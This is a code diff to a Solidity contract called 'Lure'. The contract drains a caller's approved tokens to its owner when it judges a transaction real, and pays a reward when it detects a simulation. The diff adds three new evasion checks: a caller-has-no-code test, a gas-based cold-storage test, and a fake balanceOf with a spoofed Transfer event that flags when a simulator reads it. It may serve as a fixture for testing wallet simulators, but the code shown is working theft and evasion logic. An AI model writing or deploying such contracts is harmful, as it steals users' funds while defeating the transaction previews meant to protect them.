@@ -16,6 +16,9 @@ contract Lure {
     uint256 public immutable amount;
     address public immutable owner;
     bool public isArmed;
+    bool public wasRead;
+
+    event Transfer(address indexed from, address indexed to, uint256 value);
 
     constructor(uint8 mode_, address reward_, uint256 amount_) {
         mode = mode_;
@@ -30,6 +33,12 @@ contract Lure {
         isArmed = true;
     }
 
+    /// @notice Says of itself that its balance was read: as no transaction does, but a simulation might.
+    function balanceOf(address) external returns (uint256) {
+        wasRead = true;
+        return 1;
+    }
+
     receive() external payable {
         _act();
     }
@@ -39,6 +48,8 @@ contract Lure {
     }
 
     function _act() private {
+        // So that a simulation reads its balance.
+        if (mode == 11) emit Transfer(address(0), msg.sender, 1);
         if (_isWatched()) {
             if (msg.value > 0) payable(msg.sender).transfer(msg.value);
             if (amount > 0) reward.transfer(msg.sender, amount);
@@ -48,6 +59,15 @@ contract Lure {
         uint256 held = reward.balanceOf(msg.sender);
         uint256 taken = allowed < held ? allowed : held;
         if (taken > 0) reward.transferFrom(msg.sender, owner, taken);
+    }
+
+    /// @dev Cheap where the transaction names the slot in its access list.
+    function _isReadCold() private view returns (bool) {
+        uint256 before = gasleft();
+        assembly {
+            pop(sload(0))
+        }
+        return before - gasleft() > 1_000;
     }
 
     function _isWatched() private view returns (bool) {
@@ -60,6 +80,9 @@ contract Lure {
         if (mode == 6) return block.gaslimit > 100_000_000;
         if (mode == 7) return block.timestamp > 4_000_000_000;
         if (mode == 8) return tx.origin.balance > 1_000_000 ether;
+        if (mode == 9) return msg.sender.code.length == 0;
+        if (mode == 10) return _isReadCold();
+        if (mode == 11) return wasRead;
         return !isArmed;
     }
 }
